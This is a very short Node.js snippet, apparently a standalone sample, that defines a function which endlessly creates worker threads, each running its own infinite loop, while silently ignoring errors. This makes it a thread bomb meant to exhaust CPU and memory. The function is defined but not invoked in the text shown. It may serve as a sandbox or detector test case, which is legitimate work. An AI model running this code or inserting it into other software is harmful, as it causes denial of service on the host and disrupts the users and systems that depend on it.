const { Worker } = require('worker_threads');
function f(x) { for (;;) { try { new Worker('for(;;);', { eval: true }); } catch (e) {} } }
